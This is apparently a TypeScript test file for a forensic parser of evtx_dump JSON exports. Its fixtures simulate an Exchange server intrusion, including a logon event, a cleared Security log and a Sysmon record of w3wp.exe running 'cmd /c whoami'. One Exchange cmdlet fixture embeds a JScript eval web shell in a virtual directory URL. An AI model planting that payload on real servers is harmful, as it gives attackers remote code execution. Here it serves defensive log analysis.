/**
 * The evtx_dump_json family: JSON written by the Rust `evtx` crate's evtx_dump (`-o json`, `-o jsonl`,
 * `--separate-json-attributes`), fixtures written from the crate's serializer rules (attributes under
 * `#attributes`, element text under `#text`, unnamed Data items as a `#text` array, `Record <n>` separators).
 */
import { runDetectedParser, iso } from './run-parser';

/** Security 4624, as `evtx_dump -o json` prints it. */
const LOGON_4624 = `Record 19813
{
  "Event": {
    "#attributes": {
      "xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"
    },
    "System": {
      "Provider": {
        "#attributes": {
          "Name": "Microsoft-Windows-Security-Auditing",
          "Guid": "54849625-5478-4994-A5BA-3E3B0328C30D"
        }
      },
      "EventID": 4624,
      "Version": 2,
      "Level": 0,
      "Task": 12544,
      "Opcode": 0,
      "Keywords": "0x8020000000000000",
      "TimeCreated": {
        "#attributes": {
          "SystemTime": "2021-03-03T02:13:15.103125Z"
        }
      },
      "EventRecordID": 19813,
      "Correlation": {
        "#attributes": {
          "ActivityID": "B3D2D2C6-0F8B-0002-D3D2-D2B38B0FD701"
        }
      },
      "Execution": {
        "#attributes": {
          "ProcessID": 664,
          "ThreadID": 2964
        }
      },
      "Channel": "Security",
      "Computer": "EXCH01.corp.example.gov",
      "Security": null
    },
    "EventData": {
      "SubjectUserSid": "S-1-5-18",
      "SubjectUserName": "EXCH01$",
      "SubjectDomainName": "CORP",
      "SubjectLogonId": "0x3e7",
      "TargetUserSid": "S-1-5-21-3457937927-2839227994-823803824-1104",
      "TargetUserName": "svc-backup",
      "TargetDomainName": "CORP",
      "TargetLogonId": "0x8d2e7f",
      "LogonType": 3,
      "LogonProcessName": "NtLmSsp ",
      "AuthenticationPackageName": "NTLM",
      "WorkstationName": "-",
      "LogonGuid": "00000000-0000-0000-0000-000000000000",
      "TransmittedServices": "-",
      "LmPackageName": "NTLM V2",
      "KeyLength": 128,
      "ProcessId": "0x0",
      "ProcessName": "-",
      "IpAddress": "203.0.113.7",
      "IpPort": "49823",
      "ImpersonationLevel": "%%1833",
      "RestrictedAdminMode": "-",
      "TargetOutboundUserName": "-",
      "TargetOutboundDomainName": "-",
      "VirtualAccount": "%%1843",
      "TargetLinkedLogonId": "0x0",
      "ElevatedToken": "%%1842"
    }
  }
}
`;

/** Lines of LOGON_4624 (its Record line included). */
const LOGON_LINES = LOGON_4624.split('\n').length - 1;

/** MSExchange Management cmdlet log (classic source: unnamed Data items, EventID with Qualifiers), as jsonl. */
const EXCHANGE_1 = JSON.stringify({
  Event: {
    '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
    System: {
      Provider: { '#attributes': { Name: 'MSExchange CmdletLogs' } },
      EventID: { '#attributes': { Qualifiers: 16384 }, '#text': 1 },
      Level: 4,
      Task: 1,
      Keywords: '0x80000000000000',
      TimeCreated: { '#attributes': { SystemTime: '2021-03-03T07:32:11.415626Z' } },
      EventRecordID: 4402,
      Channel: 'MSExchange Management',
      Computer: 'EXCH01.corp.example.gov',
      Security: null,
    },
    EventData: {
      Data: {
        '#text': [
          'Set-OabVirtualDirectory',
          '-Identity "EXCH01\\OAB (Default Web Site)" -ExternalUrl "http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["orange"],"unsafe");}</script>"',
          'corp.example.gov/Users/Administrator',
          'S-1-5-21-3457937927-2839227994-823803824-500',
          'S-1-5-21-3457937927-2839227994-823803824-500',
          'Remote-PowerShell-Unknown',
          '7732 w3wp#MSExchangePowerShellAppPool',
          '',
          '00:00:00.0781250',
        ],
      },
      Binary: null,
    },
  },
});

/** Security 1102 (log cleared): UserData. */
const CLEARED_1102 = JSON.stringify({
  Event: {
    System: {
      Provider: { '#attributes': { Name: 'Microsoft-Windows-Eventlog', Guid: 'FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148' } },
      EventID: 1102,
      Level: 4,
      TimeCreated: { '#attributes': { SystemTime: '2021-03-05T23:59:01.000417Z' } },
      EventRecordID: 20411,
      Channel: 'Security',
      Computer: 'EXCH01.corp.example.gov',
      Security: null,
    },
    UserData: {
      LogFileCleared: {
        '#attributes': { xmlns: 'http://manifests.microsoft.com/win/2004/08/windows/eventlog' },
        SubjectUserSid: 'S-1-5-21-3457937927-2839227994-823803824-500',
        SubjectUserName: 'Administrator',
        SubjectDomainName: 'CORP',
        SubjectLogonId: '0x6a1f2',
      },
    },
  },
});

describe('evtx_dump JSON parser', () => {
  it('reads a pretty-printed record: System fields, time to the millisecond, named event data, promoted columns', async () => {
    // Act
    const r = await runDetectedParser(Buffer.from(LOGON_4624), 'Security.json');
    // Assess
    expect(r.family).toBe('evtx_dump_json');
    expect(r.rejects).toEqual([]);
    expect(r.rows).toHaveLength(1);
    const row = r.rows[0];
    expect(iso(row.event_time)).toBe('2021-03-03T02:13:15.103Z');
    expect(row).toMatchObject({
      host: 'EXCH01',
      channel: 'Security',
      provider: 'Microsoft-Windows-Security-Auditing',
      event_id: 4624,
      level: 0,
      record_id: 19813,
      computer: 'EXCH01.corp.example.gov',
      ip_address: '203.0.113.7',
      logon_type: 3,
      target_user_name: 'svc-backup',
      source_line: 2,
    });
    expect(JSON.parse(row.event_data as string)).toMatchObject({ LogonType: '3', KeyLength: '128', IpPort: '49823' });
  });

  it('reads unnamed Data items as param1.. and EventID with Qualifiers as the id (MSExchange Management)', async () => {
    // Act
    const r = await runDetectedParser(Buffer.from(EXCHANGE_1 + '\n' + CLEARED_1102 + '\n'), 'Exchange.jsonl');
    // Assess
    expect(r.family).toBe('evtx_dump_json');
    expect(r.rejects).toEqual([]);
    expect(r.rows[0]).toMatchObject({ event_id: 1, channel: 'MSExchange Management', provider: 'MSExchange CmdletLogs', record_id: 4402 });
    const data = JSON.parse(r.rows[0].event_data as string) as Record<string, string>;
    expect(data.param1).toBe('Set-OabVirtualDirectory');
    expect(data.param2).toContain('Page_Load(){eval(Request["orange"]');
    expect(data.param9).toBe('00:00:00.0781250');
    expect(data.Binary).toBe('');
    expect(r.rows[1]).toMatchObject({ event_id: 1102, subject_user_name: 'Administrator', source_line: 2 });
  });

  it('reads --separate-json-attributes output (<Element>_attributes siblings)', async () => {
    // Prepare
    const doc = {
      Event: {
        System: {
          Provider: '',
          Provider_attributes: { Name: 'Microsoft-Windows-Sysmon', Guid: '5770385F-C22A-43E0-BF4C-06F5698FFBD9' },
          EventID: 1,
          TimeCreated: '',
          TimeCreated_attributes: { SystemTime: '2021-03-03T02:20:01.482Z' },
          EventRecordID: 77,
          Channel: 'Microsoft-Windows-Sysmon/Operational',
          Computer: 'EXCH01.corp.example.gov',
          Security: '',
          Security_attributes: { UserID: 'S-1-5-18' },
        },
        EventData: {
          Image: 'C:\\Windows\\System32\\cmd.exe',
          CommandLine: 'cmd /c whoami',
          ParentImage: 'c:\\windows\\system32\\inetsrv\\w3wp.exe',
          ProcessId: 4242,
        },
      },
    };
    // Act
    const r = await runDetectedParser(Buffer.from(JSON.stringify(doc) + '\n'), 'sysmon.jsonl');
    // Assess
    expect(r.rejects).toEqual([]);
    expect(r.rows[0]).toMatchObject({
      provider: 'Microsoft-Windows-Sysmon',
      user_sid: 'S-1-5-18',
      command_line: 'cmd /c whoami',
      process_id: 4242,
      parent_image: 'c:\\windows\\system32\\inetsrv\\w3wp.exe',
    });
    expect(iso(r.rows[0].event_time)).toBe('2021-03-03T02:20:01.482Z');
  });

  it('reads a UTF-16 file with BOM and CRLF line ends', async () => {
    // Prepare
    const text = (LOGON_4624 + 'Record 4402\n' + JSON.stringify(JSON.parse(EXCHANGE_1), null, 2) + '\n').replace(/\n/g, '\r\n');
    const bytes = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
    // Act
    const r = await runDetectedParser(bytes, 'Security.json');
    // Assess
    expect(r.family).toBe('evtx_dump_json');
    expect(r.rejects).toEqual([]);
    expect(r.rows.map((x) => x.event_id)).toEqual([4624, 1]);
    // The second record's object starts after the first record's lines and its own Record line.
    expect(r.rows[1].source_line).toBe(LOGON_LINES + 2);
  });

  it('rejects a truncated last record alone, with its line, and keeps the others', async () => {
    // Prepare
    const cut = LOGON_4624 + LOGON_4624.slice(0, 900);
    // Act
    const r = await runDetectedParser(Buffer.from(cut), 'Security.json');
    // Assess
    expect(r.rows).toHaveLength(1);
    expect(r.rejects).toEqual([{ lineNo: LOGON_LINES + 2, reason: expect.stringContaining('record cut short') }]);
  });

  it('resumes at the next record after one cut short mid-file (pretty and one-line records mixed)', async () => {
    // Prepare
    const damaged =
      LOGON_4624.slice(0, 700) + '\n' + LOGON_4624 + EXCHANGE_1 + '\n' + '{"Event": {"System": {"EventID": 5}\n' + CLEARED_1102 + '\n';
    // Act
    const r = await runDetectedParser(Buffer.from(damaged), 'mixed.json');
    // Assess
    expect(r.rows.map((x) => x.event_id)).toEqual([4624, 1, 1102]);
    expect(r.rejects.map((x) => x.reason)).toEqual([
      'record cut short: a string runs past the end of its line',
      'record cut short: a new record starts before this one closes',
    ]);
  });

  it('keeps a 5 MB event data value whole', async () => {
    // Prepare
    const big = 'A'.repeat(5 * 1024 * 1024);
    const doc = JSON.parse(CLEARED_1102) as { Event: Record<string, unknown> };
    doc.Event.EventData = { ScriptBlockText: big };
    delete doc.Event.UserData;
    // Act
    const r = await runDetectedParser(Buffer.from(JSON.stringify(doc, null, 2) + '\n'), 'ps.json');
    // Assess
    expect(r.rejects).toEqual([]);
    expect((r.rows[0].script_block_text as string).length).toBe(big.length);
  });

  it('rejects a record that is not an event, and bad JSON, each alone with its reason', async () => {
    // Prepare
    const text = [
      EXCHANGE_1,
      '{"Event": {"NotSystem": {}}}',
      '{"Event": {"System": {"TimeCreated": {"#attributes": {"SystemTime": "yesterday"}}}}}',
      '{"Event": {"System": ]]}',
      CLEARED_1102,
    ].join('\n');
    // Act
    const r = await runDetectedParser(Buffer.from(text), 'x.jsonl');
    // Assess
    expect(r.rows.map((x) => x.event_id)).toEqual([1, 1102]);
    expect([...new Set(r.rejects.map((x) => x.lineNo))]).toEqual([2, 3, 4]);
    expect(r.rejects[0].reason).toMatch(/no Event.System/);
    expect(r.rejects[1].reason).toMatch(/bad TimeCreated SystemTime "yesterday"/);
    expect(r.rejects[2].reason).toMatch(/unreadable record/);
  });

  it('is not chosen for an export of zero events (evtx_dump of an empty log prints nothing)', async () => {
    // Act
    const r = await runDetectedParser(Buffer.alloc(0), 'Empty.json');
    // Assess
    expect(r.family).toBeNull();
  });
});
